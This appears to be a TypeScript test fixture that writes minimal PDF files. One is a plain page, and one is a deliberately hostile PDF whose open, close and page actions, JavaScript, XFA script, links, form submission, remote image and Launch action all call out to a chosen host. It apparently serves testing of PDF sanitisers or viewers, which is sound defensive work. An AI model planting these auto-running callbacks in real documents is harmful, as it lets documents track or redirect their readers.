// Writes small PDFs (ISO 32000-1, section 7.5): for looking at, and for trying what an enemy would put into one.

/** Objects are numbered from 1, and the first is the catalogue. */
function written(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  const table = `xref\n0 ${count}\n0000000000 65535 f \n${rows}`;
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}

const stream = (content: string, entries = '') =>
  `<< /Length ${content.length} ${entries}>>\nstream\n${content}\nendstream`;

/** One page with a black square in it, and a word. */
export function plainPdf(word = 'Hello'): Uint8Array {
  return written([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>',
    stream(`0 0 0 rg 100 100 100 100 re f BT /F 24 Tf 40 250 Td (${word}) Tj ET`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** The same, and whatever can run, ask, or lead to `http://<host>`. */
export function hostilePdf(host: string): Uint8Array {
  const url = (path: string) => `(http://${host}/${path})`;
  const script = (path: string) =>
    `<< /S /JavaScript /JS (app.alert\\("${path}"\\); app.launchURL\\("http://${host}/${path}", true\\); this.submitForm\\("http://${host}/${path}"\\); fetch\\("http://${host}/${path}"\\);) >>`;
  return written([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('open')} /AA << /WC ${script('close')} >>` +
      ` /Names << /JavaScript << /Names [(a) ${script('named')}] >> >> /AcroForm << /Fields [6 0 R] /XFA 8 0 R >>` +
      ` /URI << /Base ${url('base')} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /AA << /O ${script('page')} >>` +
      ' /Annots [5 0 R 6 0 R 9 0 R] /Resources << /XObject << /X 7 0 R >> >> >>',
    stream('0 0 0 rg 100 100 100 100 re f q 50 0 0 50 0 0 cm /X Do Q'),
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI ${url('link')} >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 300] /A << /S /SubmitForm /F << /FS /URL /F ${url('form')} >> >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0` +
      ` /F << /FS /URL /F ${url('picture')} >> >>\nstream\n\nendstream`,
    stream(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><script contentType="application/x-javascript">xfa.host.gotoURL("http://${host}/xfa")</script></subform></template></xdp:xdp>`,
    ),
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 300 300] /A << /S /Launch /F << /FS /URL /F ${url('launch')} >> /NewWindow true >> >>`,
  ]);
}
